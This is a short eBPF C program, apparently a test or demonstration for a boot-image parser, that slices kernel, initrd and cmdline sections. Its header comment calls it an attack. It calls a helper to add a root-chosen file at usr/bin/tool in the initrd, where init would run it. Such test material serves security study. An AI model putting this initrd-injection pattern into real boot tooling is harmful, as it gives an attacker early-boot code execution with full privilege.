// SPDX-License-Identifier: GPL-2.0-or-later
/* Attack: a file of root's choice gets a place that init would run it from. */
#include "section.bpf.h"

/* Writable: the verifier wants that of memory with a size. */
static char directory[] = "usr/bin";
static char file[] = "/tool";

SEC_PARSER
int parse(void *context)
{
	slice_section(kernel_name, LINUX);
	slice_section(initrd_name, INITRD);
	slice_section(cmdline_name, CMDLINE);
	bpf_helper_supplement_initrd(directory, sizeof(directory), file, sizeof(file));
	return 0;
}

char LICENSE[] SEC("license") = "GPL";
